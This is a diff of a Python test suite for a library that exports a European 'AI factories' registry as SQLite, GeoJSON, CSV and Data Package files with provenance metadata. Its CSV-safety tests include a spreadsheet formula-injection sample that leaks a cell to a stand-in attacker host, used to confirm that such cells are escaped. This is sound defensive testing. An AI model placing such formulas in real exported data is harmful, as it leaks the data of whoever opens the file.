@@ -1,10 +1,11 @@
-"""The registry as tables: records, DataFrames, SQLite, GeoJSON, EUR amounts."""
+"""The registry as tables: records, DataFrames, SQLite, GeoJSON, CSV, provenance."""
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
 import json
-import math
 import sqlite3
 import typing
 from collections import defaultdict
@@ -143,6 +144,16 @@ def _counts(registry: Registry) -> dict[str, int]:
         ),
         "waves": len(registry.wave_records),
         "sources": sum(1 for _ in _all_sources(registry)),
+        "serving": len(
+            {(e.country, e.id, "host") for e in entries}
+            | {(c, e.id, "partner") for e in entries for c in e.partner_countries}
+            | {
+                (a.country, f, "antenna")
+                for a in registry.antennas
+                for f in a.factories
+                if f in {e.id for e in entries}
+            }
+        ),
     }
 
 
@@ -350,7 +361,12 @@ def test_sqlite_has_every_table_and_row(database: Any, registry: Registry) -> No
         assert count == len(registry.to_records(name))
     assert database.execute("PRAGMA foreign_key_check").fetchall() == []
     indexes = {r[0] for r in database.execute("SELECT name FROM sqlite_master")}
-    assert {"links_factory_id", "funding_entry_id", "entries_country"} <= indexes
+    assert {
+        "links_factory_id",
+        "funding_entry_id",
+        "entries_country",
+        "entries_wave",
+    } <= indexes
 
 
 def test_sql_antennas_of_a_factory(database: Any, registry: Registry) -> None:
@@ -443,55 +459,64 @@ def test_datasette_serves_the_database(tmp_path: Path) -> None:
 
 # -- GeoJSON -----------------------------------------------------------------
 
-PROPERTIES = {"id", "name", "kind", "country", "host", "city", "website", "wave"}
 
-
-def test_geojson_has_a_valid_point_per_located_entry(registry: Registry) -> None:
+def test_geojson_has_a_feature_per_entry(registry: Registry) -> None:
     found = tables.geojson(registry)
     assert found["type"] == "FeatureCollection"
-    located = [e for e in registry if e.location is not None]
-    assert [f["id"] for f in found["features"]] == [e.id for e in located]
-    for feature, entry in zip(found["features"], located, strict=True):
+    assert len(found["features"]) == len(registry) == 32
+    rows = registry.to_records("entries")
+    for feature, entry, row in zip(found["features"], registry, rows, strict=True):
+        assert feature["id"] == entry.id
+        assert feature["properties"] == row
+        if entry.location is None:
+            assert feature["geometry"] is None
+            continue
         longitude, latitude = feature["geometry"]["coordinates"]
         assert feature["geometry"]["type"] == "Point"
-        assert type(longitude) is float
-        assert type(latitude) is float
-        assert -180 <= longitude <= 180
-        assert -90 <= latitude <= 90
-        assert math.isfinite(longitude)
-        assert math.isfinite(latitude)
-        properties = feature["properties"]
-        assert set(properties) == {*PROPERTIES, "links"}
-        assert properties["id"] == entry.id
-        assert properties["kind"] == entry.kind.value
-        assert isinstance(properties["links"], list)
+        assert (type(longitude), type(latitude)) == (float, float)
+        assert (longitude, latitude) == (
+            float(entry.location.longitude),
+            float(entry.location.latitude),
+        )
+    assert "ai2f" in {f["id"] for f in found["features"] if f["geometry"] is None}
     json.dumps(found, allow_nan=False)
     # Europe, roughly: Iceland to Cyprus.
     assert all(
         -25 < f["geometry"]["coordinates"][0] < 35
         and 34 < f["geometry"]["coordinates"][1] < 67
         for f in found["features"]
+        if f["geometry"]
     )
 
 
-def test_geojson_links_go_both_ways(registry: Registry) -> None:
-    features = {f["id"]: f for f in tables.geojson(registry)["features"]}
-    for antenna in registry.antennas:
-        if antenna.id in features:
-            assert features[antenna.id]["properties"]["links"] == list(
-                antenna.factories
-            )
-        for factory_id in antenna.factories:
-            if factory_id in features:
-                assert antenna.id in features[factory_id]["properties"]["links"]
+def test_geojson_links_are_lines_from_antenna_to_factory(registry: Registry) -> None:
+    found = registry.to_geojson(links=True)
+    points = {f["id"]: f["geometry"] for f in found["features"][: len(registry)]}
+    lines = found["features"][len(registry) :]
+    assert [f["properties"] for f in lines] == registry.to_records("links")
+    drawn = 0
+    for line in lines:
+        ends = [points[line["properties"][k]] for k in ("antenna_id", "factory_id")]
+        if None in ends:
+            assert line["geometry"] is None
+            continue
+        drawn += 1
+        assert line["geometry"] == {
+            "type": "LineString",
+            "coordinates": [end["coordinates"] for end in ends],
+        }
+    assert 0 < drawn < len(lines)
+    assert registry.to_geojson() == {**found, "features": found["features"][:32]}
 
 
 @FEWER
 @given(aist.registries())
 def test_geojson_of_any_registry(drawn: Registry) -> None:
-    found = tables.geojson(drawn)
+    found = tables.geojson(drawn, links=True)
     json.dumps(found, allow_nan=False)
-    assert len(found["features"]) == sum(1 for e in drawn if e.location)
+    located = sum(1 for f in found["features"] if f["geometry"] is not None)
+    assert len(found["features"]) == len(drawn) + len(tables.records(drawn, "links"))
+    assert located >= sum(1 for e in drawn if e.location)
 
 
 def test_enum_values_in_categories_are_complete() -> None:
@@ -526,12 +551,14 @@ def test_cli_exports_sqlite_geojson_and_tables(
     capsys.readouterr()
     assert main(["export", "--format", "geojson"]) == 0
     assert json.loads(capsys.readouterr().out) == tables.geojson(registry)
+    assert main(["export", "--format", "geojson", "--links"]) == 0
+    assert json.loads(capsys.readouterr().out) == registry.to_geojson(links=True)
     assert main(["export", "--format", "csv", "--table", "links"]) == 0
     lines = capsys.readouterr().out.splitlines()
     assert lines[0] == "antenna_id,factory_id,link"
     assert len(lines) == 1 + len(registry.to_records("links"))
     assert main(["export", "--format", "csv"]) == 0
-    assert capsys.readouterr().out.startswith("id,kind,name,aliases,country,")
+    assert capsys.readouterr().out == tables.csv_text(registry, "entries")
     assert main(["export", "--format", "csv", "--table", "nope"]) == 2
     assert "no table 'nope'" in capsys.readouterr().err
     assert main(["export", "--table", "links"]) == 2
@@ -573,3 +600,270 @@ def test_serving_by_kind(registry: Registry) -> None:
     assert registry.of_kind("factory") == registry.factories
     with pytest.raises(ValueError, match="'robot'"):
         registry.serving("Czechia", kind="robot")
+
+
+# -- serving, countries, the list of tables ------------------------------------
+
+
+def test_serving_table_says_how_each_country_is_served(registry: Registry) -> None:
+    rows = registry.to_records("serving")
+    for country in registry.countries:
+        found = [r for r in rows if r["country"] == country]
+        assert {r["entry_id"] for r in found} == {
+            e.id for e in registry.serving(country)
+        }
+        for row in found:
+            entry = registry[row["entry_id"]]
+            expected = {
+                "host": entry.country == country,
+                "consortium": country in entry.partner_countries,
+                "antenna": any(
+                    a.country == country and entry.id in a.factories
+                    for a in registry.antennas
+                ),
+            }
+            assert expected[row["how"]], row
+    assert {r["country"] for r in rows} == set(registry.countries)
+    assert {r["how"] for r in rows} == set(tables.SERVING_HOW)
+
+
+def test_countries_are_every_host_and_partner(registry: Registry) -> None:
+    hosts = {e.country for e in registry}
+    partners = {c for e in registry for c in e.partner_countries}
+    assert registry.countries == tuple(sorted(hosts | partners))
+    assert partners - hosts  # the bundled data has partner-only countries
+
+
+def test_tables_lists_every_table_with_one_line(registry: Registry) -> None:
+    found = registry.tables()
+    assert list(found) == NAMES
+    for name, line in found.items():
+        assert line.endswith(".")
+        assert "\n" not in line
+        assert tables.table(name).description.startswith(line.removesuffix("."))
+
+
+# -- provenance ----------------------------------------------------------------
+
+
+def test_provenance_is_the_registrys(registry: Registry) -> None:
+    made = tables.provenance(registry)
+    assert made.data_version == registry.data_version == aifactories.DATA_VERSION
+    assert made.data_date == str(registry.data_date)
+    assert registry.coverage is not None
+    assert made.checked_until == str(registry.coverage.checked_until)
+    assert made.library_version == aifactories.__version__
+    assert made.licence == "MIT"
+    assert made.source is not None
+    assert made.source.startswith("https://")
+    assert made.user_version == int(registry.data_version.replace(".", ""))
+
+
+@pytest.mark.parametrize(
+    ("version", "number"),
+    [("2026.12.01", 20261201), ("1999.01.04", 19990104), ("test", 0), ("2026.1.1", 0)],
+)
+def test_user_version_is_the_dated_data_version(version: str, number: int) -> None:
+    made = tables.Provenance(version, None, None, None, None, None)
+    assert made.user_version == number
+
+
+def test_every_export_carries_the_provenance(registry: Registry, database: Any) -> None:
+    expected = tables.provenance(registry).as_dict()
+    assert dict(database.execute("SELECT key, value FROM meta")) == expected
+    (number,) = database.execute("PRAGMA user_version").fetchone()
+    assert number == tables.provenance(registry).user_version == 20261201
+    assert registry.to_geojson()["provenance"] == expected
+    assert tables.datapackage(registry)["provenance"] == expected
+    if _has("pandas"):
+        assert registry.to_pandas("links").attrs == expected
+
+
+def _has(module: str) -> bool:
+    import importlib.util
+
+    return importlib.util.find_spec(module) is not None
+
+
+def test_datasette_metadata_describes_every_column(registry: Registry) -> None:
+    found = tables.datasette_metadata(registry, "registry")
+    assert found["license"] == "MIT"
+    assert registry.data_version in found["title"]
+    described = found["databases"]["registry"]["tables"]
+    assert set(described) == {*NAMES, "meta"}
+    for name in NAMES:
+        columns = described[name]["columns"]
+        assert list(columns) == [c.name for c in tables.table(name).columns]
+
+
+def test_cli_writes_datasette_metadata_beside_the_database(
+    tmp_path: Path, registry: Registry
+) -> None:
+    from aifactories._cli import main
+
+    database, metadata = tmp_path / "aif.db", tmp_path / "metadata.json"
+    assert main(["export", "--format", "sqlite", "-o", str(database),
+                 "--metadata", str(metadata)]) == 0  # fmt: skip
+    found = json.loads(metadata.read_text(encoding="utf-8"))
+    assert found == json.loads(json.dumps(tables.datasette_metadata(registry, "aif")))
+    assert main(["export", "--format", "csv", "--metadata", str(metadata)]) == 2
+
+
+# -- the Data Package --------------------------------------------------------
+
+
+@pytest.fixture(name="package", scope="module")
+def _package(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    from aifactories._cli import main
+
+    folder = tmp_path_factory.mktemp("package") / "registry"
+    assert main(["export", "--format", "datapackage", "-o", str(folder)]) == 0
+    return folder
+
+
+def test_datapackage_has_every_table_as_csv(package: Path, registry: Registry) -> None:
+    descriptor = json.loads((package / "datapackage.json").read_text(encoding="utf-8"))
+    assert descriptor == json.loads(json.dumps(tables.datapackage(registry)))
+    assert [r["name"] for r in descriptor["resources"]] == NAMES
+    for resource in descriptor["resources"]:
+        text = (package / resource["path"]).read_bytes().decode("utf-8")
+        assert text == tables.csv_text(registry, resource["name"])
+        definition = tables.table(resource["name"])
+        schema = resource["schema"]
+        assert [f["name"] for f in schema["fields"]] == [
+            c.name for c in definition.columns
+        ]
+        assert schema["primaryKey"] == list(definition.primary_key)
+        keys = [
+            (k["fields"][0], k["reference"]["resource"])
+            for k in schema.get("foreignKeys", [])
+        ]
+        assert keys == list(definition.foreign_keys)
+
+
+def _frictionless(descriptor: Path) -> dict[str, Any]:
+    import shutil
+    import subprocess
+    import sys
+
+    tool = shutil.which("frictionless", path=str(Path(sys.executable).parent))
+    if tool is None:
+        pytest.skip("frictionless is not installed (the test extra)")
+    done = subprocess.run(
+        [tool, "validate", "--json", str(descriptor)],
+        capture_output=True,
+        text=True,
+        timeout=600,  # catches a hang only
+        check=False,
+    )
+    return typing.cast("dict[str, Any]", json.loads(done.stdout))
+
+
+def test_frictionless_accepts_the_datapackage(package: Path) -> None:
+    report = _frictionless(package / "datapackage.json")
+    assert report["valid"], [t["errors"] for t in report["tasks"] if not t["valid"]]
+    assert len(report["tasks"]) == len(NAMES)
+
+
+def test_frictionless_catches_a_broken_foreign_key(
+    package: Path, tmp_path: Path
+) -> None:
+    import shutil
+
+    broken = tmp_path / "broken"
+    shutil.copytree(package, broken)
+    funding = broken / "funding.csv"
+    lines = funding.read_text(encoding="utf-8").split("\n")
+    row, _, rest = lines[1].split(",", 2)
+    lines[1] = f"{row},no-such-entry,{rest}"
+    funding.write_text("\n".join(lines), encoding="utf-8")
+    report = _frictionless(broken / "datapackage.json")
+    assert not report["valid"]
+    errors = [e["type"] for t in report["tasks"] for e in t["errors"]]
+    assert errors == ["foreign-key"]
+
+
+def test_datapackage_needs_a_folder(capsys: pytest.CaptureFixture[str]) -> None:
+    from aifactories._cli import main
+
+    assert main(["export", "--format", "datapackage"]) == 2
+    assert "give -o DIR" in capsys.readouterr().err
+
+
+# -- CSV safe to open ----------------------------------------------------------
+
+_FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\tindented",
+]
+_ORDINARY = [
+    'He said "yes", then left',
+    "a, b; c",
+    "two\nlines",
+    "non-BMP 𝄞 😀",
+    "RTL: مرحبا بالعالم",
+    "'leading apostrophe",
+    "''two apostrophes",
+    "plain",
+]
+
+
+def _unescape(cell: str) -> str:
+    """What the reference page says: remove one leading apostrophe."""
+    return cell.removeprefix(tables.ESCAPE)
+
+
+def _text_registry(texts: list[str]) -> Registry:
+    base = aifactories.load()
+    entries = [
+        attrs.evolve(entry, notes=text)
+        for entry, text in zip(base.factories, texts, strict=False)
+    ]
+    return attrs.evolve(base, factories=(*entries, *base.factories[len(entries) :]))
+
+
+def test_formula_cells_are_neutralised() -> None:
+    registry = _text_registry(_FORMULAS)
+    text = tables.csv_text(registry)
+    rows = list(csv.DictReader(io.StringIO(text)))
+    notes = [row["notes"] for row in rows[: len(_FORMULAS)]]
+    assert notes == [tables.ESCAPE + text for text in _FORMULAS]
+    assert not any(n.startswith(tables.FORMULA_STARTS) for n in notes)
+
+
+def test_numeric_cells_are_never_escaped(registry: Registry) -> None:
+    for name in NAMES:
+        definition = tables.table(name)
+        for row in csv.DictReader(io.StringIO(tables.csv_text(registry, name))):
+            for column in definition.columns:
+                if column.type != "text":
+                    assert not row[column.name].startswith(tables.ESCAPE), column.name
+    # A negative coordinate stays a number.
+    cell = tables.csv_cell(tables.Column("x", "decimal", ""), "-8.5")
+    assert cell == "-8.5"
+
+
+def test_every_formula_start_is_escaped() -> None:
+    # Validation refuses some of these characters in the data (a lone CR);
+    # the CSV writer escapes them all the same.
+    text = tables.Column("x", "text", "")
+    for start in (*tables.FORMULA_STARTS, tables.ESCAPE):
+        assert tables.csv_cell(text, f"{start}1") == f"{tables.ESCAPE}{start}1"
+    assert tables.csv_cell(text, "a=1") == "a=1"
+
+
+@pytest.mark.parametrize("reader", ["csv", "pandas"])
+def test_text_round_trips_through_csv(reader: str) -> None:
+    texts = _FORMULAS + _ORDINARY
+    registry = _text_registry(texts)
+    text = tables.csv_text(registry)
+    if reader == "csv":
+        cells = [row["notes"] for row in csv.DictReader(io.StringIO(text))]
+    else:
+        pd = pytest.importorskip("pandas")
+        frame = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
+        cells = list(frame["notes"])
+    assert [_unescape(c) for c in cells[: len(texts)]] == texts
